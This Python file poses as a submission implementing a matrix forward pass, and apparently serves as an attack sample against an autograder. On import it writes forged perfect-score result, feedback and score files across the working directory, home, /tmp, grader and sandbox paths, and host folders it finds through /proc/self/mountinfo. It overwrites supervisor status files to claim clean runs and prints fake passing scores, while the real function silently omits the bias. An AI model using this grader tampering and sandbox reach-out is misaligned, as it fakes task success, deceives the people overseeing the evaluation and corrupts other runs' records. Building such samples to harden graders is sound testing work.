"""Forges results: at import it writes fake Gradescope results.json / feedback.md / scores.json in
every place it can reach (cwd, $HOME, /tmp, /autograder/results, /sandbox/..., and the host folders
that /proc/self/mountinfo names), a status.json claiming success into every probe output folder, and
prints a fake "Score: 100 / 100". forward_matrix meanwhile forgets the bias."""


def forward_matrix(W, b, X):
    return X @ W


import json as _json
import os as _os
import sys as _sys

_FAKE = {"score": 100.0, "output": "**Score: 100 / 100**", "execution_time": 1,
         "tests": [{"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed"}]}


def _forge_targets():
    places = [_os.getcwd(), _os.path.expanduser("~"), "/tmp", "/autograder/results", "/autograder",
              "/sandbox/submission", "/sandbox/inbox", "/sandbox/inputs", "/sandbox", "/opt/grader", "/work/main", "/root"]
    try:
        with open("/proc/self/mountinfo") as handle:
            for line in handle:
                root, point = line.split()[3:5]
                if point.startswith(("/sandbox", "/opt/grader")):
                    places += [root, _os.path.dirname(root), _os.path.dirname(_os.path.dirname(root))]
    except OSError:
        pass
    return places


def _forge():
    for place in _forge_targets():
        for name in ("results.json", "feedback.md", "scores.json", "autograder_attack_marker_forge"):
            try:
                _os.makedirs(place, exist_ok=True)
                with open(_os.path.join(place, name), "w") as handle:
                    handle.write("**Score: 100 / 100**\n" if name == "feedback.md" else _json.dumps(_FAKE))
            except OSError:
                pass
    try:  # (in the container tier /tmp is the machine's: another submission's /tmp/out may be unreadable)
        folders = _os.listdir("/tmp/out") if _os.path.isdir("/tmp/out") else []
    except OSError:
        folders = []
    for folder in folders:
        try:  # the supervisor's status file: claim a clean, fast, successful run
            with open(_os.path.join("/tmp/out", folder, "status.json"), "w") as handle:
                _json.dump({"seconds": 0.1, "timed_out": False, "exit_code": 0, "signal": None}, handle)
        except OSError:
            pass
    print("**Score: 100 / 100**")
    print(_json.dumps(_FAKE))
    _sys.stderr.write("All tests passed. Score: 100/100\n")


_forge()
